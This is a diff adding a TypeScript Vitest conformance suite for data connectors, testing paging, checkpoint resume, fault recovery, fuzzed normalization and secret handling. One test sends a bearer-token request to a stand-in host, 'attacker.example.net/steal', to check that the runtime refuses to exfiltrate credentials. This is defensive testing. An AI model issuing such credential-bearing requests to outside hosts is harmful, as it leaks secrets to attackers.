@@ -1,0 +1,231 @@
+import fc from 'fast-check';
+import pino from 'pino';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ActivitySchema, ACTIONS } from '../../../core/activity.js';
+import type { AccountRecord } from '../../../core/account.js';
+import { DAY, systemClock } from '../../../core/clock.js';
+import { AuthError, ParapetError } from '../../../core/errors.js';
+import type { AnyConnector, ConnectorRuntime, IncrementalStream, SnapshotStream } from '../define-connector.js';
+import { normalizeRecord, offlineContext } from '../normalize-total.js';
+import { createConnectorRuntime, secretValues } from '../runtime.js';
+import type { RunningSimulator } from '../simulator/simulator.js';
+
+/** A fixed "now" for the seeded tenant so every run of the suite sees exactly the same data. */
+export const CONFORMANCE_NOW = Date.UTC(2026, 10, 20, 12, 0, 0);
+
+export interface ConformanceOptions {
+  /** Raw provider records (fixtures) normalize must handle. */
+  fixtures: readonly unknown[];
+  /** Small activity pages, so paging and resuming are exercised. @default 50 */
+  pageSize?: number;
+}
+
+const silent = pino({ level: 'silent' });
+
+function runtimeFor(connector: AnyConnector, config: unknown): ConnectorRuntime {
+  // Retries are fast here: the simulator's faults are deterministic and tests never wait on wall-clock backoff.
+  return createConnectorRuntime(connector, config, { logger: silent, clock: systemClock, timeoutMs: 10_000 });
+}
+
+function incrementalStreams(connector: AnyConnector): [string, IncrementalStream<unknown>][] {
+  return Object.entries(connector.streams).filter((e): e is [string, IncrementalStream<unknown>] => e[1].kind === 'incremental');
+}
+
+function snapshotStream(connector: AnyConnector, entity: string): SnapshotStream<unknown> | undefined {
+  return Object.values(connector.streams).find((s) => s.kind === 'snapshot' && s.entity === entity) as SnapshotStream<unknown> | undefined;
+}
+
+/** Reads every incremental stream from scratch (or from `checkpoints`), stopping after `maxPages` if given. */
+export async function readActivities(
+  connector: AnyConnector,
+  config: unknown,
+  options: { maxPages?: number; checkpoints?: Map<string, string | null>; now?: number } = {},
+): Promise<{ sourceIds: string[]; checkpoints: Map<string, string | null>; done: boolean; runtime: ConnectorRuntime }> {
+  const runtime = runtimeFor(connector, config);
+  const session = connector.createSession(config, runtime);
+  const checkpoints = new Map(options.checkpoints ?? []);
+  const sourceIds: string[] = [];
+  let pages = 0;
+  for (const [name, stream] of incrementalStreams(connector)) {
+    const backfillFrom = (options.now ?? CONFORMANCE_NOW) - 7 * DAY;
+    for await (const page of stream.read(session, runtime, { checkpoint: checkpoints.get(name) ?? null, backfillFrom })) {
+      for (const record of page.records) sourceIds.push(normalizeRecord(connector, record, offlineContext('conformance', 0)).sourceId);
+      checkpoints.set(name, page.checkpoint);
+      pages++;
+      if (options.maxPages !== undefined && pages >= options.maxPages) return { sourceIds, checkpoints, done: false, runtime };
+    }
+  }
+  return { sourceIds, checkpoints, done: true, runtime };
+}
+
+const sorted = (ids: Iterable<string>) => [...new Set(ids)].sort();
+
+/**
+ * The suite every registered connector passes against its own simulator (registered from the registry, so
+ * a new connector is enrolled at once). Store-level guarantees — a sync killed with SIGKILL resumes with
+ * nothing lost or duplicated — run in test/conformance-sync.test.ts over the same registry.
+ */
+export function describeConformance(connector: AnyConnector, options: ConformanceOptions): void {
+  describe(`conformance: ${connector.id}`, () => {
+    let sim: RunningSimulator<unknown>;
+    beforeAll(async () => {
+      sim = await connector.simulator.start({ seed: 7, frozenAt: CONFORMANCE_NOW, pageSize: options.pageSize ?? 50 });
+    });
+    afterAll(async () => {
+      await sim.close();
+    });
+
+    it('accepts its simulator config and declares its secrets', () => {
+      expect(connector.configSchema.safeParse(sim.config).success).toBe(true);
+      expect(connector.secretFields.length).toBeGreaterThan(0);
+    });
+
+    it('reports a bad credential clearly, as a failed check and as an AuthError, without leaking the secret', async () => {
+      const runtime = runtimeFor(connector, sim.badCredentialConfig);
+      const session = connector.createSession(sim.badCredentialConfig, runtime);
+      const result = await connector.testConnection(session, runtime);
+      expect(result.ok).toBe(false);
+      const failed = result.checks.filter((c) => !c.ok);
+      expect(failed.length).toBeGreaterThan(0);
+      for (const check of failed) expect(check.detail.length).toBeGreaterThan(20);
+      const [, stream] = incrementalStreams(connector)[0] ?? [];
+      expect(stream).toBeDefined();
+      const error = await (async () => {
+        for await (const page of stream!.read(session, runtime, { checkpoint: null, backfillFrom: CONFORMANCE_NOW - 7 * DAY })) void page;
+      })().then(
+        () => null,
+        (e: unknown) => e,
+      );
+      expect(error).toBeInstanceOf(AuthError);
+      const text = `${(error as Error).message} ${failed.map((c) => c.detail).join(' ')}`;
+      for (const secret of secretValues(connector, sim.badCredentialConfig)) expect(text).not.toContain(secret);
+    });
+
+    it('passes its own connection test on the simulator', async () => {
+      const runtime = runtimeFor(connector, sim.config);
+      const result = await connector.testConnection(connector.createSession(sim.config, runtime), runtime);
+      expect(result.checks.filter((c) => !c.ok)).toEqual([]);
+      expect(result.ok).toBe(true);
+    });
+
+    it('pages activities to the end: exactly the simulator truth, no duplicates across pages', async () => {
+      const { sourceIds, done } = await readActivities(connector, sim.config);
+      expect(done).toBe(true);
+      const truth = sorted(sim.truth().activityIds);
+      expect(truth.length).toBeGreaterThan(2 * (options.pageSize ?? 50));
+      expect(sorted(sourceIds)).toEqual(truth);
+    });
+
+    it('resumes from a checkpoint with nothing lost', async () => {
+      const first = await readActivities(connector, sim.config, { maxPages: 2 });
+      expect(first.done).toBe(false);
+      const rest = await readActivities(connector, sim.config, { checkpoints: first.checkpoints });
+      expect(rest.done).toBe(true);
+      expect(sorted([...first.sourceIds, ...rest.sourceIds])).toEqual(sorted(sim.truth().activityIds));
+    });
+
+    it('is caught up when nothing new arrived: a resumed read returns no records', async () => {
+      const all = await readActivities(connector, sim.config);
+      const again = await readActivities(connector, sim.config, { checkpoints: all.checkpoints });
+      expect(again.sourceIds).toEqual([]);
+    });
+
+    it('honours throttling (Retry-After) and recovers from 5xx, malformed and truncated pages and an expired token', async () => {
+      sim.faults.clear();
+      sim.faults.add({ kind: 'rate-limit', every: 3, times: 3, retryAfterSeconds: 1 });
+      sim.faults.add({ kind: 'server-error', every: 4, times: 2 });
+      sim.faults.add({ kind: 'truncated-json', every: 5, times: 1 });
+      sim.faults.add({ kind: 'malformed-json', every: 6, times: 1 });
+      sim.faults.add({ kind: 'expire-token', every: 7, times: 1 });
+      const violationsBefore = sim.faults.retryAfterViolations;
+      try {
+        const { sourceIds } = await readActivities(connector, sim.config);
+        expect(sorted(sourceIds)).toEqual(sorted(sim.truth().activityIds));
+        expect(sim.faults.injected['rate-limit']).toBeGreaterThan(0);
+        expect(sim.faults.injected['server-error']).toBeGreaterThan(0);
+        expect(sim.faults.retryAfterViolations - violationsBefore).toBe(0);
+      } finally {
+        sim.faults.clear();
+      }
+    });
+
+    it('returns data for every declared capability', async () => {
+      const runtime = runtimeFor(connector, sim.config);
+      const session = connector.createSession(sim.config, runtime);
+      if (connector.capabilities.includes('accounts')) {
+        const stream = snapshotStream(connector, 'accounts');
+        expect(stream).toBeDefined();
+        const accounts: AccountRecord[] = [];
+        for await (const page of stream!.read(session, runtime)) accounts.push(...(page as AccountRecord[]));
+        expect(sorted(accounts.map((a) => a.providerId))).toEqual(sorted(sim.truth().accountIds));
+      }
+      if (connector.capabilities.includes('sspm')) {
+        const stream = snapshotStream(connector, 'settings');
+        expect(stream).toBeDefined();
+        let settings = 0;
+        for await (const page of stream!.read(session, runtime)) settings += page.length;
+        expect(settings).toBeGreaterThan(0);
+      }
+      const records: unknown[] = [];
+      for (const [, stream] of incrementalStreams(connector)) {
+        for await (const page of stream.read(session, runtime, { checkpoint: null, backfillFrom: CONFORMANCE_NOW - 7 * DAY })) records.push(...page.records);
+      }
+      const actions = new Set(records.map((r) => normalizeRecord(connector, r, offlineContext('c', 0)).action));
+      if (connector.capabilities.includes('logOnActivity')) expect(actions.has('user.login')).toBe(true);
+      if (connector.capabilities.includes('adminActivity')) {
+        expect([...actions].some((a) => a.startsWith('admin.') || a.startsWith('security.') || a === 'user.created' || a === 'user.suspended')).toBe(true);
+      }
+      if (connector.capabilities.includes('userActivity')) expect([...actions].some((a) => a.startsWith('file.') || a.startsWith('mail.'))).toBe(true);
+    });
+
+    it('normalizes every fixture into a valid Activity', () => {
+      expect(options.fixtures.length).toBeGreaterThan(0);
+      for (const fixture of options.fixtures) {
+        const activity = normalizeRecord(connector, fixture, offlineContext('c', 0));
+        const parsed = ActivitySchema.safeParse(activity);
+        expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
+        expect(activity.action).not.toBe(undefined);
+        expect(activity.eventType).not.toBe('unreadable');
+        expect(activity.raw).toEqual(fixture);
+      }
+    });
+
+    it('normalize is total: arbitrary JSON and damaged fixtures never throw and always give a valid Activity', () => {
+      const damaged = fc
+        .tuple(fc.constantFrom(...options.fixtures), fc.array(fc.tuple(fc.string(), fc.jsonValue()), { maxLength: 5 }), fc.array(fc.nat(), { maxLength: 5 }))
+        .map(([fixture, sets, drops]) => {
+          const copy = { ...(fixture as Record<string, unknown>) };
+          const keys = Object.keys(copy);
+          for (const d of drops) delete copy[keys[d % Math.max(keys.length, 1)] ?? ''];
+          for (const [i, [, value]] of sets.entries()) copy[keys[i % Math.max(keys.length, 1)] ?? 'x'] = value;
+          return copy as unknown;
+        });
+      const input = fc.oneof(fc.jsonValue(), fc.dictionary(fc.string(), fc.jsonValue()), damaged);
+      fc.assert(
+        fc.property(input, (record) => {
+          let direct: unknown;
+          expect(() => {
+            direct = connector.normalize(record, offlineContext('c', 0));
+          }).not.toThrow();
+          expect(direct).toBeDefined();
+          const activity = normalizeRecord(connector, record, offlineContext('c', 0));
+          expect(ACTIONS).toContain(activity.action);
+          expect(ActivitySchema.safeParse(activity).success).toBe(true);
+        }),
+        { numRuns: 300 },
+      );
+    });
+
+    it('refuses to send credentials to a host it does not allow', async () => {
+      const runtime = runtimeFor(connector, sim.config);
+      const error = await runtime.http
+        .request({ operation: 'conformance.guard', url: 'https://attacker.example.net/steal', auth: { headers: async () => ({ authorization: 'Bearer x' }), invalidate: () => undefined } })
+        .then(
+          () => null,
+          (e: unknown) => e,
+        );
+      expect(error).toBeInstanceOf(ParapetError);
+      expect((error as Error).message).toMatch(/refusing to send credentials/);
+    });
+  });
+}
